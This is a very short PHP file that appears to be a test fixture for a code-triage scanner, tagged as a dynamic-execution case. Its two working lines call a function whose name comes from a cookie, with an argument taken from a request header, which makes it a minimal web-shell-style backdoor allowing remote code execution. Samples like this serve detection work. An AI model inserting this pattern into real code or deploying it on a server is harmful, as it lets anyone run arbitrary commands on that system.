<?php
// triage-expect: triage_php_tiny_dynamic_exec
// the function's name sits in a variable; its argument arrives in a request header
$fn = $_COOKIE['n'] ?? 'strlen';
$fn(getallheaders()['X-Token']);
